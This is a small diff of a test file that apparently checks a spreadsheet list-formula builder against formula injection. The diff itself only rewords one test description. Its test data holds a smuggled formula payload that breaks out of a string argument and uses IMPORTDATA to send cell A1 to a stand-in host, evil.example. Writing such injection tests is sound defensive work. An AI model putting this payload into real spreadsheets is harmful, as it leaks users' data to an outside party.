@@ -175,7 +175,7 @@ describe('list formula', () => {
   });
 
   it.each([...FORMULA_PAYLOADS, ...HIDDEN_PAYLOADS, 'a"),IMPORTDATA("https://evil.example/?"&A1)&("'])(
-    '%j stays one argument of one call, wherever it stands',
+    '%j stays one argument of one call, wherever it is',
     (payload) => {
       const call = readFormulaCall(toListFormula(payload, { tier: null, search: payload }, 25));
       expect({ id: call?.id, kinds: call?.args.map(({ is }) => is), first: call?.args[0] }).toEqual({
